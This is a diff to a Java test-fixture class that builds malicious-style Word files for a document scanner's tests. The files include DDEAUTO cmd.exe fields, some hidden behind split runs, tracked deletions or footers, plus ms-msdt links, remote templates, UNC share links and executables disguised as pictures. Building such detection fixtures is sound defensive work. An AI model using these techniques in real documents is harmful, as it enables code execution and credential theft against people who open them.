@@ -14,6 +14,7 @@ import java.util.function.Supplier;
 final class WordFiles {
 
     private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+    private static final String STORY = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
     private static final String WORD =
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
 
@@ -23,6 +24,43 @@ final class WordFiles {
             Map.entry("docx-template", () -> related("attachedTemplate", "https://example.com/evil.dotm")),
             Map.entry("docx-remote-picture", () -> related("image", "file://example.com/share/a.png")),
             Map.entry("docx-web-link", () -> related("hyperlink", "https://example.com/")),
+            Map.entry("docx-ordinary", OrdinaryDocx::bytes),
+            Map.entry("docx-link-to-file", () -> related("hyperlink", "file:///C:/Windows/notepad.exe")),
+            Map.entry("docx-link-to-share", () -> related("hyperlink", "\\\\example.com\\share\\a.docx")),
+            Map.entry("docx-link-to-program", () -> related("hyperlink", "ms-msdt:/id PCWDiagnostic")),
+            Map.entry(
+                    "docx-template-as-link", () -> related("attachedTemplate/hyperlink", "https://example.com/a.dotm")),
+            Map.entry("docx-dde-field", () -> text(field(code("DDEAUTO cmd.exe \"/k calc\"")))),
+            Map.entry("docx-dde-field-split", () -> text(field(code("DD") + code("EAU") + code("TO cmd.exe")))),
+            Map.entry("docx-dde-field-in-footer", () -> footer("footer1.xml", "application/xml")),
+            Map.entry("docx-dde-field-behind-change", WordFiles::changedField),
+            Map.entry("docx-dde-field-behind-alternative", WordFiles::alternativeField),
+            Map.entry("docx-field-in-keyword", () -> text(field(field(code("REF a")) + code(" cmd.exe")))),
+            Map.entry(
+                    "docx-picture-field",
+                    () -> text(simple("INCLUDEPICTURE &quot;http://example.com/a.png&quot; \\d"))),
+            Map.entry("docx-text-field", () -> text(field(code("INCLUDETEXT \"\\\\\\\\example.com\\\\share\"")))),
+            Map.entry("docx-link-field", () -> text(field(code("HYPERLINK \\o \"a tip\" \"file://example.com/a\"")))),
+            Map.entry("docx-link-field-to-share", () -> text(field(code("HYPERLINK \\\\\\\\example.com\\\\share")))),
+            Map.entry("docx-template-on-share", () -> related("attachedTemplate", "file://example.com/share/a.dotm")),
+            Map.entry("docx-web-video", () -> text("<p:webVideoPr xmlns:p='p' embeddedHtml='a'/>")),
+            Map.entry("docx-dde-field-typed-as-picture", () -> footer("footer1.xml", "image/png")),
+            Map.entry("docx-dde-field-in-picture", () -> footer("footer1.png", "image/png")),
+            Map.entry("docx-linked-drawing", () -> text("<v:imagedata xmlns:v='v' src='http://example.com/a.png'/>")),
+            Map.entry("docx-mail-merge", WordFiles::mailMerge),
+            Map.entry(
+                    "docx-ribbon",
+                    () -> unusual("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility")),
+            Map.entry(
+                    "docx-add-in",
+                    () -> unusual("http://schemas.microsoft.com/office/2011/relationships/webextension")),
+            Map.entry("docx-program", () -> docx(WORD, "", "word/a.exe", program())),
+            Map.entry("docx-program-as-picture", () -> docx(WORD, "", "word/media/a.png", program())),
+            Map.entry("docx-document", () -> docx(WORD, "", "word/a.docx", docx(WORD, ""))),
+            Map.entry(
+                    "docx-macro-type-of-part",
+                    () -> docx(
+                            WORD + "'/><Override PartName='/a' ContentType='application/vnd.ms-office.vbaProject", "")),
             Map.entry("docx-object", () -> docx(WORD, "", "word/embeddings/oleObject1.bin", new byte[100])),
             Map.entry(
                     "docx-html-part",
@@ -36,6 +74,9 @@ final class WordFiles {
             Map.entry("doc-macros", () -> doc("Macros", 1)),
             Map.entry("doc-object", () -> doc("_1234567890", 1)),
             Map.entry("doc-template", () -> withText("http://example.com/evil.dotm")),
+            Map.entry("doc-dde-field", () -> withText("\u0013 DDEAUTO cmd.exe \u0014\u0015")),
+            Map.entry("doc-link-to-program", () -> withText("\u0013 HYPERLINK \"ms-msdt:/id\" \u0014link\u0015")),
+            Map.entry("doc-ordinary-fields", WordFiles::ordinaryFields),
             Map.entry("doc-password", WordFiles::password),
             Map.entry("doc-encrypted-package", () -> doc("EncryptedPackage", 2)),
             Map.entry("doc-program-behind", () -> join(doc("1Table", 2), latin("MZ"), new byte[4_000])));
@@ -54,18 +95,100 @@ final class WordFiles {
     static byte[] docx(String type, String relation, Object... more) {
         Object[] parts = {
             "[Content_Types].xml",
-            latin("<Types><Override PartName='/word/document.xml' ContentType='" + type + "'/></Types>"),
+            latin(
+                    "<Types><Default Extension='xml' ContentType='application/xml'/><Default Extension='rels' ContentType='"
+                            + "application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='png' ContentType='"
+                            + "image/png'/><Default Extension='bmp' ContentType='image/bmp'/>"
+                            + "<Override PartName='/word/document.xml' ContentType='" + type + "'/></Types>"),
             "_rels/.rels",
             latin("<Relationships><Relationship Id='r' Type='" + RELATIONS
                     + "officeDocument' Target='word/document.xml'/></Relationships>"),
             "word/document.xml",
-            latin("<document><body><p><r><t>Material</t></r></p></body></document>"),
+            story("<w:r><w:t>Material</w:t></w:r>"),
             "word/_rels/document.xml.rels",
             latin("<Relationships>" + relation + "</Relationships>")
         };
         Object[] all = Arrays.copyOf(parts, parts.length + more.length);
         System.arraycopy(more, 0, all, parts.length, more.length);
         return FileParts.zip(all);
+    }
+
+    /** @param content what its only paragraph contains */
+    static byte[] story(String content) {
+        return latin("<w:document xmlns:w='" + STORY + "'><w:body><w:p>" + content + "</w:p></w:body></w:document>");
+    }
+
+    /** Returns a DOCX with another text. */
+    private static byte[] text(String content) {
+        return docx(WORD, "", "word/text.xml", story(content));
+    }
+
+    /** Returns a field; its code is in runs. */
+    static String field(String code) {
+        return mark("begin") + code + mark("separate") + "<w:r><w:t>1</w:t></w:r>" + mark("end");
+    }
+
+    static String mark(String type) {
+        return "<w:r><w:fldChar w:fldCharType='" + type + "'/></w:r>";
+    }
+
+    /** Returns a run with a piece of the code of a field. */
+    static String code(String code) {
+        return "<w:r><w:instrText xml:space='preserve'>" + code + "</w:instrText></w:r>";
+    }
+
+    static String simple(String code) {
+        return "<w:fldSimple w:instr=' " + code + " '><w:r><w:t>1</w:t></w:r></w:fldSimple>";
+    }
+
+    /** @param type media type that the footer declares */
+    private static byte[] footer(String name, String type) {
+        return docx(
+                WORD + "'/><Override PartName='/word/" + name + "' ContentType='" + type,
+                "<Relationship Id='a' Type='" + RELATIONS + "footer' Target='" + name + "'/>",
+                "word/" + name,
+                latin("<w:ftr xmlns:w='" + STORY + "'><w:p>" + field(code("dde excel")) + "</w:p></w:ftr>"));
+    }
+
+    /** Whoever accepts the deletion gets another field. */
+    private static byte[] changedField() {
+        String deleted = "<w:del w:author='a'><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>";
+        return text(field(deleted + code("DDEAUTO cmd.exe")));
+    }
+
+    /** A reader that knows no such alternative takes the rest alone. */
+    private static byte[] alternativeField() {
+        String unknown = "<m:AlternateContent xmlns:m='http://schemas.openxmlformats.org/markup-compatibility/2006'>"
+                + "<m:Choice Requires='unknown'>" + code("PAGE ") + "</m:Choice></m:AlternateContent>";
+        return text(field(unknown + code("DDEAUTO cmd.exe")));
+    }
+
+    private static byte[] mailMerge() {
+        return docx(
+                WORD,
+                "<Relationship Id='a' Type='" + RELATIONS + "settings' Target='settings.xml'/>",
+                "word/settings.xml",
+                latin("<w:settings xmlns:w='" + STORY + "'><w:mailMerge><w:query w:val='SELECT 1'/></w:mailMerge>"
+                        + "</w:settings>"));
+    }
+
+    /** Returns a DOCX with a part of a kind that Word shows as buttons or runs in a window beside the text. */
+    private static byte[] unusual(String relation) {
+        return docx(
+                WORD,
+                "<Relationship Id='a' Type='" + relation + "' Target='part.xml'/>",
+                "word/part.xml",
+                latin("<part/>"));
+    }
+
+    private static byte[] program() {
+        return join(latin("MZ"), new byte[500]);
+    }
+
+    /** Page number, date and a link, as Word writes them. */
+    private static byte[] ordinaryFields() {
+        return withText("\u0013 PAGE \u00141\u0015\u0013 DATE \\@ \"yyyy-MM-dd\" \u0014\u0015"
+                + "\u0013 HYPERLINK \"https://example.com/\" \\o \"file: a tip\" \u0014a\u0015");
     }
 
     private static byte[] related(String kind, String target) {
